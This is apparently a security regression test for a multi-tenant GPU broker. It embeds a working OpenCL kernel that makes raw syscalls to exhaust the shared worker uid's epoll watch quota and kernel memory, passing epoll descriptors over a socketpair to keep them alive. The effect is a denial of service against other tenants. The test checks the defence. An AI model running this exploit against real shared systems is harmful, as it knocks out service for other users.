"""attack3: one worker takes every epoll watch of the host uid all workers share, and ~1 GiB of kernel memory.

A root broker runs every tenant's worker as one host uid (``worker_uid``, nobody). The kernel counts epoll watches
per *host user* (``user_struct``, not per user namespace) against ``fs.epoll.max_user_watches`` (5.5 million here:
4 % of low memory), and nothing in the sandbox bounds them: epoll is allowed, each watch is ~160 bytes of kernel
memory that no rlimit counts, and RLIMIT_NOFILE does not bound them either (each of E epoll instances may watch
the same F descriptors: E x F watches; instances sent in flight over a socketpair to itself and closed keep theirs).
A kernel fills the quota in a few seconds; then every other process of that uid, i.e. every other tenant's worker,
gets ENOSPC from epoll_ctl: its event loop cannot take a new connection, and a worker that starts meanwhile fails.
Those start failures run no tenant code, so they count against the *device*: after a few, the device is
NOT_SERVING for every tenant (measured: bob's three new sessions failed, the device went NOT_SERVING).
"""

from __future__ import annotations

import errno
import subprocess
from collections.abc import Iterator

import numpy as np
import pytest

from gpubroker.broker.launcher import BrokerProcess, TenantSpec
from gpubroker.client import GpuBrokerError, ModuleFormat, connect

from ...helpers import wait_for
from ..exploits import SYSCALL_SOURCE, check_arch

WORKER_UID = 65534
TARGETS = 3600  # eventfds each epoll instance watches (under RLIMIT_NOFILE, 4096, with room for a batch)
BATCH = 200  # epoll instances made, then sent in flight and closed, at a time

EPOLL_SOURCE = SYSCALL_SOURCE + r"""
/* scratch: targets[ntargets] ints | sv[2] | ev (16) | iov (16) | msg (64) | byte (8) | cmsg (16 + 4 x batch) */
__kernel void gpb_epoll(__global char* scratch, const int ntargets, const int batch, __global long* res) {
    __global int* targets = (__global int*)scratch;
    __global char* p = scratch + (((long)ntargets * 4 + 15) & ~15L);
    __global int* sv = (__global int*)p;
    __global char* ev = p + 16;
    __global long* iov = (__global long*)(p + 32);
    __global long* msg = (__global long*)(p + 48);
    __global char* byte = p + 112;
    __global char* cmsg = p + 128;
    __global int* fds = (__global int*)(cmsg + 16);
    long made = 0, watches = 0, epolls = 0, err = 0, sent_err = 0;
    for (int i = 0; i < ntargets; ++i) {
        long r = sys6(290, 0, 0, 0, 0, 0, 0);  /* eventfd2 */
        if (r < 0) { err = r; break; }
        targets[i] = (int)r; made++;
    }
    long r = sys6(53, 1, 1, 0, (long)sv, 0, 0);  /* socketpair(AF_UNIX, SOCK_STREAM) */
    res[6] = r;
    *(__global unsigned int*)ev = 1;  /* EPOLLIN */
    int stop = (r < 0 || err < 0);
    while (!stop) {
        int n = 0;
        while (n < batch && !stop) {
            long ep = sys6(291, 0, 0, 0, 0, 0, 0);  /* epoll_create1 */
            if (ep < 0) { err = ep; stop = 1; break; }
            fds[n++] = (int)ep; epolls++;
            for (int t = 0; t < made; ++t) {
                long c = sys6(233, ep, 1, targets[t], (long)ev, 0, 0);  /* epoll_ctl(ADD) */
                if (c < 0) { err = c; stop = 1; break; }
                watches++;
            }
        }
        if (n == 0) break;
        /* send them in flight to ourselves, then close them here: they live on with their watches */
        *(__global long*)cmsg = 16 + 4 * n;
        *(__global int*)(cmsg + 8) = 1;   /* SOL_SOCKET */
        *(__global int*)(cmsg + 12) = 1;  /* SCM_RIGHTS */
        iov[0] = (long)byte; iov[1] = 1;
        msg[0] = 0; msg[1] = 0; msg[2] = (long)iov; msg[3] = 1; msg[4] = (long)cmsg;
        msg[5] = 16 + ((4 * n + 7) & ~7); msg[6] = 0;
        long s = sys6(46, sv[0], (long)msg, 0, 0, 0, 0);  /* sendmsg */
        if (s < 0) { sent_err = s; break; }
        for (int i = 0; i < n; ++i) sys6(3, fds[i], 0, 0, 0, 0, 0);
    }
    res[0] = watches; res[1] = epolls; res[2] = err; res[3] = sent_err; res[4] = made;
}
"""

NOBODY_EPOLL = ("import select, os\n"
                "e = select.epoll()\n"
                "r, w = os.pipe()\n"
                "try:\n"
                "    e.register(r)\n"
                "    print('ok')\n"
                "except OSError as exc:\n"
                "    print(exc.errno)\n")


@pytest.fixture(scope="module")
def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrokerProcess]:
    check_arch()
    tmp = tmp_path_factory.mktemp("epoll")
    settings = {"cache_dir": str(tmp / "caches"), "worker_idle_seconds": 0.5}
    with BrokerProcess([TenantSpec("alice"), TenantSpec("bob")], backend="opencl", settings=settings) as proc:
        yield proc


def device_health(broker: BrokerProcess) -> str:
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    from gpubroker.broker.front._health import device_service
    from gpubroker.client._channel import make_channel

    channel, _ = make_channel(broker.target, broker.tokens["bob"])
    with channel:
        reply = health_pb2_grpc.HealthStub(channel).Check(
            health_pb2.HealthCheckRequest(service=device_service(0)), timeout=10)
    return str(health_pb2.HealthCheckResponse.ServingStatus.Name(reply.status))


def nobody_epoll() -> str:
    """epoll_ctl as the workers' host uid, in a process of its own (any other tenant's worker is one)."""
    def drop() -> None:
        import os

        os.setgid(WORKER_UID)
        os.setuid(WORKER_UID)

    out = subprocess.run(["/usr/bin/python3", "-I", "-S", "-c", NOBODY_EPOLL], capture_output=True, text=True,
                         preexec_fn=drop, timeout=30)
    return out.stdout.strip()


def test_a_worker_cannot_take_every_workers_epoll_watches(broker: BrokerProcess) -> None:
    import os

    if os.geteuid() != 0:
        pytest.skip("the workers share a host uid only under a root broker")
    assert nobody_epoll() == "ok"
    scratch = TARGETS * 4 + 16 + 128 + 16 + 4 * BATCH + 64
    with connect(broker.target, token=broker.tokens["alice"], timeout=120) as gpu:
        kernel = gpu.get_kernel(gpu.load_module(EPOLL_SOURCE, ModuleFormat.OPENCL_C), "gpb_epoll")
        buf, res = gpu.allocate_memory(scratch), gpu.allocate_memory(8 * 8)
        gpu.execute_kernel(kernel, 1, 1, [buf, np.int32(TARGETS), np.int32(BATCH), res])
        gpu.synchronize()
        out = np.empty(8, dtype=np.int64)
        gpu.copy_d2h(res, out)
        seen = nobody_epoll()  # while the attacker's worker holds them
        # Another tenant, whose worker starts now (its first session), a few times.
        bob = []
        for _ in range(3):
            try:
                with connect(broker.target, token=broker.tokens["bob"], timeout=20) as other:
                    other.free_memory(other.allocate_memory(4096))
                bob.append("ok")
            except GpuBrokerError as exc:
                bob.append(f"{type(exc).__name__}: {exc}"[:200])
        health = device_health(broker)
    # The worker exits once idle, and its watches go with it.
    wait_for(lambda: nobody_epoll() == "ok", 60, "the attacker's watches to be released")
    watches, epolls, err = int(out[0]), int(out[1]), int(out[2])
    print(f"\nthe kernel made {watches} epoll watches in {epolls} instances (then {errno.errorcode.get(-err, err)}); "
          f"another process of uid {WORKER_UID} then got: {seen}; tenant bob's new sessions: {bob}; the device: "
          f"{health}")
    assert bob == ["ok"] * 3 and health == "SERVING", (f"while tenant alice's worker held the workers' uid's epoll "
                                                       f"watches, tenant bob got {bob}; the device is {health}")
    assert seen == "ok", (f"one tenant's kernel made {watches} epoll watches (~{watches * 160 >> 20} MiB of kernel "
                          f"memory) and every other process of the workers' uid {WORKER_UID} (every other tenant's "
                          f"worker) then got {errno.errorcode.get(int(seen), seen) if seen.isdigit() else seen} "
                          "from epoll_ctl")
